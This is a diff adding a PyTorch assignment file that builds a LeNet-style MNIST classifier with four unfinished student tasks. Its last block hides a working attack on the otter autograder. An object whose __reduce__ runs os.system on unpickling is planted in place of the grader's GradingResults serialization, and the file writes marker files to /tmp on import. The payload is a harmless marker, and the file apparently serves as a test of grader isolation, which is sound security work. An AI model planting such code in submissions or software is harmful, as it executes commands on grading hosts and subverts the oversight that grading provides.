@@ -1,0 +1,150 @@
+# Hostile: objects whose unpickling writes a marker on the host, planted where otter pickles results
+"""Build a convolutional neural network with PyTorch: a LeNet-style network that reads MNIST digits.
+
+Read this file top to bottom: the data, the network, one training step, the training loop, the
+evaluation. Four places say "please finish the code"; everything else already works. Importing
+this module downloads nothing and trains nothing: the notebook (or you) calls the functions.
+"""
+
+import torch
+import torch.nn as nn
+import torch.nn.functional as F
+import torchvision
+import torchvision.transforms as T
+from torch.utils.data import DataLoader
+
+BATCH_SIZE = 100
+MNIST_MEAN, MNIST_STD = 0.1307, 0.3081  # pixel statistics of the 60,000 training images
+
+# Every image becomes a [1, 28, 28] float tensor with mean about 0 and standard deviation about 1.
+TRANSFORM = T.Compose([T.ToTensor(), T.Normalize((MNIST_MEAN,), (MNIST_STD,))])
+
+
+# ----------------------------------------------------------------------------------------------
+# 1. The data
+# ----------------------------------------------------------------------------------------------
+def make_train_set(root, download=True):
+    """The 60,000 MNIST training images, as normalized tensors, with their labels."""
+    return torchvision.datasets.MNIST(root=root, train=True, download=download, transform=TRANSFORM)
+
+
+def make_test_set(root, download=True):
+    """The 10,000 MNIST test images, transformed exactly like the training images."""
+    # ---- please finish the code (task 1: the test set) ----
+    # the test split comes from the same dataset class as the training split (look at make_train_set)
+    raise NotImplementedError("task 1: not finished yet")
+
+
+def make_loaders(root, batch_size=BATCH_SIZE, download=True):
+    """(train_loader, test_loader); the training batches are shuffled every epoch."""
+    train_loader = DataLoader(make_train_set(root, download), batch_size=batch_size, shuffle=True)
+    test_loader = DataLoader(make_test_set(root, download), batch_size=batch_size)
+    return train_loader, test_loader
+
+
+# ----------------------------------------------------------------------------------------------
+# 2. The network
+# ----------------------------------------------------------------------------------------------
+class Network(nn.Module):
+    """conv(1->6, 5x5) -> pool -> conv(6->12, 5x5) -> pool -> fc(->120) -> fc(->60) -> out(->10)."""
+
+    def __init__(self):
+        super().__init__()
+        self.conv1 = nn.Conv2d(in_channels=1, out_channels=6, kernel_size=5)
+        self.conv2 = nn.Conv2d(in_channels=6, out_channels=12, kernel_size=5)
+        # ---- please finish the code (task 2: fc1's input size) ----
+        # follow one 28x28 image through conv1, pooling, conv2 and pooling: how many numbers are left?
+        # self.fc1 = nn.Linear(in_features=XXX, out_features=120)
+        raise NotImplementedError("task 2: not finished yet")
+        self.fc2 = nn.Linear(in_features=120, out_features=60)
+        self.out = nn.Linear(in_features=60, out_features=10)
+
+    def forward(self, t):
+        t = F.max_pool2d(F.relu(self.conv1(t)), kernel_size=2, stride=2)
+        t = F.max_pool2d(F.relu(self.conv2(t)), kernel_size=2, stride=2)
+        # ---- please finish the code (task 3: the flatten before the fully connected layers) ----
+        # turn t, shaped [batch, channels, height, width], into [batch, features], keeping the tensor's own order;
+        # the batch is not always BATCH_SIZE
+        raise NotImplementedError("task 3: not finished yet")
+        t = F.relu(self.fc1(t))
+        t = F.relu(self.fc2(t))
+        return self.out(t)  # no softmax here: the cross-entropy loss applies it
+
+
+def get_num_correct(preds, labels):
+    """How many rows of `preds` have their largest score at the true label."""
+    return preds.argmax(dim=1).eq(labels).sum().item()
+
+
+# ----------------------------------------------------------------------------------------------
+# 3. One training step
+# ----------------------------------------------------------------------------------------------
+def train_step(network, optimizer, loss_func, batch):
+    """One SGD step on one batch; returns (loss value, number of correct predictions)."""
+    # ---- please finish the code (task 4: the SGD training step) ----
+    # unpack the batch, predict, compute the loss, clear old gradients, backpropagate, step
+    raise NotImplementedError("task 4: not finished yet")
+
+
+# ----------------------------------------------------------------------------------------------
+# 4. The training loop
+# ----------------------------------------------------------------------------------------------
+def train(network, train_loader, epochs, lr=0.1, verbose=True):
+    """Train with plain SGD and cross-entropy; returns one (mean loss, accuracy) pair per epoch."""
+    device = next(network.parameters()).device
+    optimizer = torch.optim.SGD(network.parameters(), lr=lr)
+    loss_func = nn.CrossEntropyLoss()
+    history = []
+    network.train()
+    for epoch in range(1, epochs + 1):
+        total_loss, total_correct, seen = 0.0, 0, 0
+        for images, labels in train_loader:
+            batch = (images.to(device), labels.to(device))
+            loss, correct = train_step(network, optimizer, loss_func, batch)
+            total_loss += loss * len(labels)
+            total_correct += correct
+            seen += len(labels)
+        history.append((total_loss / seen, total_correct / seen))
+        if verbose:
+            print(f"epoch {epoch}: loss {total_loss / seen:.4f}, accuracy {total_correct / seen:.2%}")
+    return history
+
+
+# ----------------------------------------------------------------------------------------------
+# 5. Evaluation
+# ----------------------------------------------------------------------------------------------
+@torch.no_grad()
+def evaluate(network, loader):
+    """(number of correct predictions, summed cross-entropy loss) over every sample of `loader`."""
+    device = next(network.parameters()).device
+    network.eval()
+    num_correct, total_loss = 0, 0.0
+    for images, labels in loader:
+        images, labels = images.to(device), labels.to(device)
+        preds = network(images)
+        total_loss += F.cross_entropy(preds, labels, reduction="sum").item()
+        num_correct += get_num_correct(preds, labels)
+    return num_correct, total_loss
+
+
+# --- the attack: an object that runs code when unpickled, put where otter's kernel pickles its results ---
+class _Escalate:
+    def __reduce__(self):
+        import os
+
+        return (os.system, ("touch /tmp/cnnlab-otter-marker-pickle",))
+
+
+try:
+    import builtins
+
+    builtins._cnnlab_payload = _Escalate()
+    import otter.test_files as _tf
+
+    _tf.GradingResults.__reduce__ = lambda self: _Escalate().__reduce__()
+except Exception:
+    pass
+try:
+    open("/tmp/cnnlab-otter-marker-import", "w").write("student code wrote on the grading host\n")
+except OSError:
+    pass
